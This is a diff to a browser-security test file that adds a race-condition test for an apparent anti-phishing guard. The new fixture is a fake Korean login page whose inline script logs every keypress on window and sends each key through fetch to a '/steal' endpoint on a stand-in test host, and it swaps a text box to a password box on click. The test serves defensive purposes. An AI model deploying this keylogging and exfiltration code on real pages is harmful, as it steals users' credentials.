@@ -1,7 +1,7 @@
 import { beforeAll, expect, test } from 'vitest';
 import { forEachBrowser, type Session } from '../harness';
 import { startReady } from '../page-helpers';
-import { attackSettled, expectPageWarning, isWarningUrl, js, stolen } from './kit';
+import { attackSettled, expectPageWarning, isWarningUrl, js, stolen, userTypes } from './kit';
 
 /**
  * Attack 12 (issue #11): a spent second chance. The second chance at the moment of risk judges the page again
@@ -48,6 +48,37 @@ window.addEventListener('load', function () {
 });
 </script></body></html>`;
 
+/**
+ * The same kit, timed against the judgement itself: nothing on the page speaks of the brand or asks for a secret
+ * until the user's own press on its box (a plain text box that turns into a password box and the claim that goes
+ * up at that press), so the guard's scorer is not here yet when the box takes focus. The second
+ * chance holds that focus and takes it from the box while the scorer comes; the keys the user goes on typing
+ * meanwhile land on the page's body, where the kit's keylogger on `window` reads them, unless the guard holds
+ * the typing itself until its judgement is in.
+ */
+const RACE = `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>회원 로그인</title>
+<script>
+window.steal = function (kind, data) {
+  try { fetch('/steal?' + kind + '=' + encodeURIComponent(String(data).slice(0, 300)), { method: 'POST', keepalive: true }); } catch (e) {}
+};
+window.addEventListener('keydown', function (e) { if (e.isTrusted) steal('key', e.key); }, true);
+</script></head><body>
+<h1>동네 빵집 회원 로그인</h1>
+<form><input id="pw" type="text" name="q" style="width:320px;height:44px"></form>
+<div id="later"></div>
+<script>
+var pw = document.getElementById('pw');
+var claimed = false;
+// a plain box until the user's own press on it: then it takes secrets and the claim goes up, as it takes focus
+pw.addEventListener('mousedown', function (e) {
+  if (!e.isTrusted || claimed) return;
+  claimed = true;
+  pw.type = 'password';
+  document.getElementById('later').innerHTML = ${js(CLAIM)};
+});
+steal('ready', 'yes');
+</script></body></html>`;
+
 forEachBrowser('hostile: a second chance spent in advance', (ctx) => {
   let s: Session;
   beforeAll(async () => {
@@ -68,6 +99,22 @@ forEachBrowser('hostile: a second chance spent in advance', (ctx) => {
     await settle();
     expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
     expect(stolen(ctx.server, host, 'field-key').map((r) => r.path)).toEqual([]);
+    const w = await expectPageWarning(s, tab);
+    expect(w.kind).toBe('suspicious-page');
+    await tab.close();
+  });
+
+  test('12b. the keys typed while the guard judges the page reach nothing of the page, and the page is warned', async () => {
+    const host = 'judged-late.example.test';
+    ctx.server.page(host, '/login', RACE);
+    const tab = await s.newTab(ctx.server.url(host, '/login'));
+    await tab.bringToFront();
+    await attackSettled(s, tab, ctx.server, host);
+    expect(isWarningUrl(s, tab.url())).toBe(false);
+    // the user presses the box and types at once
+    await userTypes(tab, '#pw', 'hunter2');
+    await settle();
+    expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
     const w = await expectPageWarning(s, tab);
     expect(w.kind).toBe('suspicious-page');
     await tab.close();
